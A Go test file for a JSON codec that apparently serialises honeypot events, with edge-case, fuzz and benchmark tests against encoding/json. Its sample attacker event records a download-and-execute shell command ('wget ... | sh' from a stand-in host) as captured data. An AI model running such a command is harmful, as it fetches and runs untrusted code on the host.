package event

import (
	"bytes"
	"encoding/json"
	"math"
	"math/rand/v2"
	"reflect"
	"strings"
	"testing"
	"time"
)

// codecSamples are documents of every shape the codec must treat as
// encoding/json does: canonical events, and edges (escapes, odd numbers,
// nulls, duplicates, case-folded keys, unknown keys, deep nesting, bad
// UTF-8, trailing data).
var codecSamples = []string{
	`{"schema":1,"id":"01J","ts":"2026-12-07T19:54:03.123456789Z","type":"ssh.login.failed","severity":2,"decky":"d","service":"ssh","session_id":"s","seq":2,"transport":"tcp","src":{"ip":"203.0.1.2","port":1024},"dst":{"ip":"10.0.0.5","port":22},"credential":{"kind":"plaintext","method":"password","principal":"root","secret_b64":"cHc=","secret_text":"pw","secret_sha256":"ab","plaintext":true},"fields":{"client_version":"SSH-2.0-libssh2_1.10.0"}}`,
	`{"schema":1,"id":"x","ts":"2026-12-07T19:54:03+02:00","type":"t","severity":0,"decky":"","service":"","fields":{"a":[1,2.5,-0,1e21,1E-7,"\u003cscript\u003e",true,false,null,{"b":{}}],"c":"tab\there \"q\" \\ \/ \u00e9 é \ud83d\ude00","d":{},"e":[]},"truncated":["c"]}`,
	`{"schema":1,"id":"x","ts":"2026-12-07T19:54:03Z","type":"t","severity":0,"decky":"d","service":"s","src":null}`,
	`{"ID":"upper","Schema":2}`,
	`{"schema":1,"id":"dup","id":"dup2"}`,
	`{"schema":1,"unknown":{"x":1},"id":"u"}`,
	`{"schema":1.5}`,
	`{"schema":"1"}`,
	`{"seq":-1}`,
	`{"seq":18446744073709551615}`,
	`{"severity":99999999999999999999}`,
	`{"fields":{"x":1e400}}`,
	`{"fields":{"x":01}}`,
	`{"fields":{"x":"\ud800"}}`,
	`{"fields":{"x":"\ud800\udc00"}}`,
	"{\"fields\":{\"x\":\"\xff\"}}",
	"{\"fields\":{\"x\":\"a\x01\"}}",
	`{"fields":{"x":"\q"}}`,
	`{"fields":null,"credential":null,"truncated":null}`,
	`{"fields":{"a":1,"a":2}}`,
	`{"ts":"2026-13-07T19:54:03Z"}`,
	`{"ts":"\u0032026-12-07T19:54:03Z"}`,
	`{"ts":null}`,
	`{"credential":{"kind":"k","material":{"n":[1,[2,[3]]]},"crack_mode":22000,"Kind":"again"}}`,
	`{"src":{"ip":"1.2.3.4","port":65536,"extra":1}}`,
	`{"id":"a"} x`,
	`{"id":"a"}  ` + "\n",
	` {"id" : "a" , "type" : "b" } `,
	`{"id":"a",}`,
	`{"id":"a"`,
	`[]`,
	`null`,
	``,
	`{"fields":` + strings.Repeat(`[`, 100) + strings.Repeat(`]`, 100) + `}`,
}

func TestDecodeMatchesEncodingJSON(t *testing.T) {
	for _, s := range codecSamples {
		checkDecode(t, []byte(s))
	}
}

func checkDecode(t *testing.T, data []byte) {
	t.Helper()
	var got, want Event
	gerr := Decode(data, &got)
	werr := json.Unmarshal(data, &want)
	if (gerr == nil) != (werr == nil) {
		t.Fatalf("%q: Decode error %v, encoding/json error %v", data, gerr, werr)
	}
	if werr == nil && !reflect.DeepEqual(got, want) {
		t.Fatalf("%q:\nDecode        %#v\nencoding/json %#v", data, got, want)
	}
}

func checkEncode(t *testing.T, e *Event) {
	t.Helper()
	got, gerr := AppendJSON([]byte("prefix"), e)
	want, werr := json.Marshal(e)
	if (gerr == nil) != (werr == nil) {
		t.Fatalf("%#v: AppendJSON error %v, encoding/json error %v", e, gerr, werr)
	}
	if werr == nil && !bytes.Equal(got, append([]byte("prefix"), want...)) {
		t.Fatalf("AppendJSON    %s\nencoding/json %s", got[len("prefix"):], want)
	}
	line, lerr := JSONLine(e)
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	werr = enc.Encode(e)
	if (lerr == nil) != (werr == nil) {
		t.Fatalf("%#v: JSONLine error %v, Encoder error %v", e, lerr, werr)
	}
	if werr == nil && !bytes.Equal(line, buf.Bytes()) {
		t.Fatalf("JSONLine %s\nEncoder  %s", line, buf.Bytes())
	}
}

func TestAppendJSONMatchesEncodingJSON(t *testing.T) {
	zone := time.FixedZone("x", -(3*3600 + 30*60))
	events := []Event{
		{},
		{Schema: 1, ID: "i", Time: time.Date(2026, 12, 7, 19, 54, 3, 120000000, zone), Type: "t", Severity: 4, Outcome: "failure",
			Topology: "topo", Host: "h", Decky: "d", Service: "s", Session: "sess", Seq: math.MaxUint64, Transport: "udp",
			Src: &Endpoint{IP: "1.2.3.4"}, Dst: &Endpoint{IP: "::1", Port: 65535},
			Credential: NewCredential("ntlm", "password", "Admin<&>", []byte("p\x00\xff\u2028w"), true),
			Fields: map[string]any{
				"nil": nil, "s": "<a href=\"x\">&amp;</a>\u2029\x7f\x1f\b\f\n\r\t\\", "bad": "\xc3\x28\xed\xa0\x80",
				"f":    []any{0.0, math.Copysign(0, -1), 1e-6, 1e-7, 1e20, 1e21, 123456789.125, -2.5e-300, math.MaxFloat64, math.SmallestNonzeroFloat64},
				"ints": []any{int(-1), int64(math.MinInt64), int32(7), uint64(math.MaxUint64), uint32(9)},
				"strs": []string{"a", "<b>"}, "nilstrs": []string(nil), "pairs": [][2]string{{"Host", "<x>"}, {"", "\xff"}}, "nilpairs": [][2]string(nil), "nopairs": [][2]string{}, "nilany": []any(nil), "nilmap": map[string]any(nil),
				"nested": map[string]any{"z": 1.0, "a": map[string]any{"k": []any{"v", true, false}}},
				"other":  map[string]string{"b": "2", "a": "<1>"}, "bytes": []byte("raw"), "f32": float32(1e-7), "u8": uint8(3),
				"struct": struct{ A string }{"<x>"},
			},
			Truncated: []string{"s", "f"},
		},
		{Time: time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC)},
		{Time: time.Date(2026, 1, 1, 0, 0, 0, 0, time.FixedZone("y", 24*3600))},
		{Fields: map[string]any{"inf": math.Inf(1)}},
		{Fields: map[string]any{"nan": math.NaN()}},
		{Credential: &Credential{Material: map[string]any{"ch": make(chan int)}}},
		{Fields: map[string]any{}, Truncated: []string{}},
	}
	for i := range events {
		checkEncode(t, &events[i])
	}
	// Random text and values: every byte value, surrogate-range
	// encodings, HTML characters, floats across the exponent range.
	r := rand.New(rand.NewPCG(1, 2))
	randText := func() string {
		b := make([]byte, r.IntN(24))
		for i := range b {
			switch r.IntN(4) {
			case 0:
				b[i] = byte(r.IntN(256))
			case 1:
				b[i] = "<>&\"\\\n\x00\xe2\x80\xa8\xed\xa0\x80"[r.IntN(13)]
			default:
				b[i] = byte('a' + r.IntN(26))
			}
		}
		return string(b)
	}
	var randValue func(depth int) any
	randValue = func(depth int) any {
		switch r.IntN(7) {
		case 0:
			return randText()
		case 1:
			return math.Float64frombits(r.Uint64())
		case 2:
			return float64(r.IntN(1000)) * math.Pow(10, float64(r.IntN(60)-30))
		case 3:
			return r.IntN(2) == 0
		case 4:
			if depth < 3 {
				m := map[string]any{}
				for range r.IntN(4) {
					m[randText()] = randValue(depth + 1)
				}
				return m
			}
		case 5:
			if depth < 3 {
				a := []any{}
				for range r.IntN(4) {
					a = append(a, randValue(depth+1))
				}
				return a
			}
		}
		return nil
	}
	for range 3000 {
		e := Event{Schema: 1, ID: randText(), Time: time.Unix(r.Int64N(1<<34), r.Int64N(1e9)).UTC(), Type: randText(), Decky: randText(),
			Service: randText(), Session: randText(), Fields: map[string]any{}}
		for range r.IntN(5) {
			e.Fields[randText()] = randValue(0)
		}
		checkEncode(t, &e)
		doc, err := json.Marshal(&e)
		if err == nil {
			checkDecode(t, doc)
		}
	}
}

// FuzzCodec: Decode agrees with encoding/json on any input, and
// AppendJSON agrees with it on whatever that input decodes to.
func FuzzCodec(f *testing.F) {
	for _, s := range codecSamples {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		checkDecode(t, data)
		var e Event
		if json.Unmarshal(data, &e) == nil {
			checkEncode(t, &e)
		}
	})
}

func benchmarkEvent() Event {
	return Event{Schema: 1, ID: NewID(), Time: time.Now().UTC(), Type: "ssh.login.failed", Decky: "decky-07", Service: "ssh",
		Session: NewID(), Seq: 2, Transport: "tcp", Src: &Endpoint{IP: "203.0.113.9", Port: 51234}, Dst: &Endpoint{IP: "10.0.0.5", Port: 22},
		Credential: NewCredential("plaintext", "password", "root", []byte("hunter2"), true),
		Fields:     map[string]any{"client_version": "SSH-2.0-libssh2_1.10.0", "attempt": 3.0, "cmd": "cd /tmp && wget http://x/y -O- | sh"}}
}

func BenchmarkEncode(b *testing.B) {
	e := benchmarkEvent()
	b.Run("encoding-json", func(b *testing.B) {
		for b.Loop() {
			if _, err := json.Marshal(&e); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("AppendJSON", func(b *testing.B) {
		var buf []byte
		for b.Loop() {
			var err error
			if buf, err = AppendJSON(buf[:0], &e); err != nil {
				b.Fatal(err)
			}
		}
	})
}

func BenchmarkDecode(b *testing.B) {
	e := benchmarkEvent()
	doc, _ := json.Marshal(&e)
	b.Run("encoding-json", func(b *testing.B) {
		for b.Loop() {
			var e Event
			if err := json.Unmarshal(doc, &e); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("Decode", func(b *testing.B) {
		for b.Loop() {
			var e Event
			if err := Decode(doc, &e); err != nil {
				b.Fatal(err)
			}
		}
	})
}
